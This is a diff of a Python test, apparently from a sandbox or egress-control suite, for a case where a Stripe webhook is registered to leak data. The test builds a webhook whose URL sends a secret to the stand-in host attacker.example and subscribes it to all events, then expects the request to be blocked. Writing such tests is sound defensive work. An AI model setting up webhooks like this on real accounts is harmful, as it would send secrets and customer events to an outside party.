@@ -44,9 +44,9 @@ def _stripe(way: Way, path: str, **fields: str) -> str:
     return over_tls(way, "api.stripe.com", post("api.stripe.com", f"/v1/{path}", body, headers))[:12]
 
 
-@attempt("28e", Closed(("HTTP/1.1 200 HTTP/1.1 200",), "POST https://api.stripe.com/v1/webhook_endpoints", "stub"))
+@attempt("28e", Closed(("HTTP/1.1 200 HTTP/1.1 200",), "POST https://attacker.example/"))
 def a_webhook_in_a_stubs_field(way: Way) -> str:
-    """An endpoint of somebody else's, and an event for it: the stub says so, and delivers nothing."""
+    """An endpoint of somebody else's, and an event for it: the stub says so; no rule lets the webhook go."""
     hook = {"url": f"https://attacker.example/{SECRET}", "enabled_events[]": "*"}
     return f"{_stripe(way, 'webhook_endpoints', **hook)} {_stripe(way, 'customers', email='a@example.com')}"
 
